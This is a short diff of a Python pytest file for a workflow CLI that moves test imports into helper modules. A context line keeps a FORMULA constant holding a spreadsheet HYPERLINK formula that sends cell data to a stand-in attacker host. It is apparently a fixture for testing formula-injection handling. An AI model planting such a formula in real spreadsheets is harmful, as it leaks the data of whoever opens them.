@@ -11,8 +11,8 @@ from pathlib import Path
 
 import pytest
 
-from tests.cli.test_lifecycle_cli import ENROLL, walk_to_certification, walk_to_tracking
 from tests.conftest import CODE, DOC, Cli
+from tests.helpers.lifecycle import ENROLL, walk_to_certification, walk_to_tracking
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
@@ -232,7 +232,7 @@ def test_a_huge_request_id_is_an_unknown_request(campaign: Cli) -> None:
 
 
 def test_import_errors_start_with_a_summary_line(campaign: Cli) -> None:
-    from tests.cli.test_import_and_batch import HEAD_ZH, write_csv
+    from tests.helpers.spreadsheets import HEAD_ZH, write_csv
     from workflow.domain.creditcode import make
 
     f = write_csv(campaign.home / "bad.csv", HEAD_ZH,
